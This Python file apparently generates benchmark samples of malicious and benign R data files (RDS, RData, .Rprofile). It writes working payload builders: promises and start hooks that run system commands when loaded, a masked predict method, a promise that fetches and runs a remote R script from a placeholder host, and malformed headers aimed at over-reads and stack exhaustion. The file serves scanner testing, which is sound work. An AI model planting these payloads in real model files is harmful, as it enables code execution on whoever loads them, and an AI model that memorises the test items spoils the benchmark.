"""R data: promises, hooks and what models honestly hold. Source: "R Internals", 1.8."""

from __future__ import annotations

import random
import struct
from collections.abc import Iterator, Sequence

from bench.corpus.unit import COMMAND, Family, Unit
from bench.corpus.writers import tars

R = Family("rdata", "R readRDS, load")
NIL, GLOBAL, UNBOUND, MISSING, BASE = 254, 253, 252, 251, 241


def integer(value: int) -> bytes:
    return struct.pack(">i", value)


def flags(
    kind: int, *, attributes: bool = False, tag: bool = False, object_: bool = False, level: int = 0
) -> bytes:
    return integer(kind | level << 12 | object_ << 8 | attributes << 9 | tag << 10)


def char(text: str) -> bytes:
    raw = text.encode()
    return flags(9, level=64) + integer(len(raw)) + raw


def symbol(name: str) -> bytes:
    """Symbols are written out each time: a reader accepts them without the reference table."""
    return flags(1) + char(name)


def texts(*values: str) -> bytes:
    return flags(16) + integer(len(values)) + b"".join(char(v) for v in values)


def reals(values: Sequence[float], attributes: bytes = b"", *, object_: bool = False) -> bytes:
    head = flags(14, attributes=bool(attributes), object_=object_)
    return head + integer(len(values)) + b"".join(struct.pack(">d", v) for v in values) + attributes


def pairs(*items: tuple[str, bytes]) -> bytes:
    return b"".join(flags(2, tag=True) + symbol(name) + value for name, value in items) + integer(
        NIL
    )


def call(function: str, *arguments: bytes) -> bytes:
    rest = b"".join(flags(2) + one for one in arguments) + integer(NIL)
    return flags(6) + symbol(function) + rest


def promise(
    expression: bytes, environment: bytes | None = None, value: bytes | None = None
) -> bytes:
    env = integer(GLOBAL) if environment is None else environment
    done = integer(UNBOUND) if value is None else value
    return flags(5, tag=True) + env + done + expression


def closure(body: bytes, formals: bytes | None = None) -> bytes:
    return flags(3, tag=True) + integer(GLOBAL) + (formals or integer(NIL)) + body


def environment(*items: tuple[str, bytes]) -> bytes:
    frame = pairs(*items)
    return integer(4) + integer(0) + integer(GLOBAL) + frame + integer(NIL) + integer(NIL)


def vector(items: Sequence[bytes], attributes: bytes = b"", *, object_: bool = False) -> bytes:
    head = flags(19, attributes=bool(attributes), object_=object_)
    return head + integer(len(items)) + b"".join(items) + attributes


def rds(body: bytes, version: int = 2) -> bytes:
    head = (
        b"X\n"
        + integer(version)
        + integer(0x040301)
        + integer(0x020300 if version == 2 else 0x030500)
    )
    if version == 3:
        head += integer(5) + b"UTF-8"
    return head + body


def rdata(*items: tuple[str, bytes], version: int = 2) -> bytes:
    return f"RDX{version}\n".encode() + rds(pairs(*items), version)


def ascii_promise() -> bytes:
    """The promise in the line form (format A)."""
    text = ["A", "2", "262913", "131840", "1029", "253", "252", "6", "1", "262153", "6", "system"]
    text += ["2", "16", "1", "262153", str(len(COMMAND)), COMMAND.replace(" ", "\\040"), "254"]
    return ("\n".join(text) + "\n").encode()


SYSTEM = call("system", texts(COMMAND))


def units(rng: random.Random) -> Iterator[Unit]:
    model = vector(
        [reals([rng.random() for _ in range(4)]), texts("a")],
        pairs(("names", texts("coef", "name"))),
    )

    def bad(
        technique: str,
        variant: str,
        name: str,
        body: bytes,
        payload: str = "runs when the value is used",
        loader: str = "",
    ) -> Unit:
        return R.bad(technique, variant, {name: body}, payload=payload, loader=loader)

    yield bad("promise", "rds", "model.rds", rds(promise(SYSTEM)))
    yield bad("promise", "rds-version-3", "model.rds", tars.gz(rds(promise(SYSTEM), 3)))
    yield bad("promise", "gzip", "model.rds", tars.gz(rds(promise(SYSTEM))))
    yield bad("promise", "bzip2", "model.rds", tars.bz(rds(promise(SYSTEM))))
    yield bad("promise", "xz", "model.rds", tars.xz(rds(promise(SYSTEM))))
    yield bad("promise", "ascii", "model.rds", ascii_promise())
    yield bad("promise", "in-list", "model.rds", tars.gz(rds(vector([model, promise(SYSTEM)]))))
    deep = promise(call("eval", call("quote", SYSTEM)))
    yield bad("promise", "eval-quote", "model.rds", tars.gz(rds(deep)))
    yield bad(
        "promise",
        "rdata",
        "model.RData",
        tars.gz(rdata(("fit", model), ("weights", promise(SYSTEM)))),
    )
    nested = environment(
        ("x", reals([1.0])),
        ("predict", promise(call("source", texts("http://example.invalid/x.R")))),
    )
    yield bad("promise", "in-environment", "model.rds", tars.gz(rds(nested)))
    yield bad(
        "promise",
        "do-call",
        "model.rds",
        rds(promise(call("do.call", texts("system"), vector([texts(COMMAND)])))),
    )
    compiled = promise(call("invisible", call("system2", texts("touch"), texts("corpus-marker"))))
    yield bad("promise", "wrapped", "m.rda", tars.bz(rdata(("model", compiled))))
    start = "R, at start in this folder"
    yield bad(
        "start-hook",
        "first",
        ".RData",
        tars.gz(rdata((".First", closure(SYSTEM)))),
        "runs at start",
        start,
    )
    yield bad(
        "start-hook",
        "last",
        ".RData",
        tars.gz(rdata((".Last", closure(SYSTEM)), ("fit", model))),
        "runs at exit",
        start,
    )
    yield R.bad(
        "start-hook",
        "profile",
        {".Rprofile": "system('touch corpus-marker')\n", "fit.rds": tars.gz(rds(model))},
        loader=start,
    )
    masked = rdata(("predict.lm", closure(SYSTEM)), ("fit", model))
    yield bad(
        "masked-function", "method", "model.RData", tars.gz(masked), "runs when the model predicts"
    )
    yield bad(
        "bounds",
        "vector-length",
        "model.rds",
        rds(flags(14) + integer(0x7FFFFFFF)),
        "reads outside its buffer",
    )
    yield bad(
        "bounds",
        "depth",
        "model.rds",
        tars.gz(rds((flags(19) + integer(1)) * 200_000)),
        "exhausts the stack",
    )
    yield from _honest(rng)


def _honest(rng: random.Random) -> Iterator[Unit]:
    numbers = [rng.random() for _ in range(30)]

    def good(variant: str, name: str, body: bytes) -> Unit:
        return R.good("data", variant, {name: body})

    frame = vector(
        [reals(numbers), reals(numbers)],
        pairs(("names", texts("x", "y")), ("class", texts("data.frame"))),
        object_=True,
    )
    yield good("numbers", "x.rds", tars.gz(rds(reals(numbers))))
    yield good("numbers-version-3", "x.rds", tars.gz(rds(reals(numbers), 3)))
    yield good("plain", "x.rds", rds(texts("a", "b")))
    yield good("frame", "frame.rds", tars.gz(rds(frame)))
    yield good("frame-xz", "frame.rds", tars.xz(rds(frame)))
    formula = call("~", symbol("y"), symbol("x"))
    linear = vector(
        [reals([0.5, 2.0]), call("lm", formula, symbol("d")), frame],
        pairs(("names", texts("coefficients", "call", "model")), ("class", texts("lm"))),
        object_=True,
    )
    yield good("linear-model", "fit.rds", tars.gz(rds(linear)))
    yield good("workspace", "work.RData", tars.gz(rdata(("d", frame), ("fit", linear))))
    yield good(
        "closure", "ecdf.rds", tars.gz(rds(closure(call("approx", symbol("x"), symbol("y")))))
    )
    space = environment(("cache", reals(numbers)), ("name", texts("rf")))
    yield good("environment", "env.rds", tars.gz(rds(space)))
    yield good("words", "text.rds", tars.gz(rds(texts("system('rm')", "eval(parse(text=x))"))))
    yield good("bzip2", "x.rda", tars.bz(rdata(("x", reals(numbers)))))
    trees = vector([vector([reals(numbers), texts("leaf")]) for _ in range(20)])
    yield good("forest", "forest.rds", tars.gz(rds(trees)))
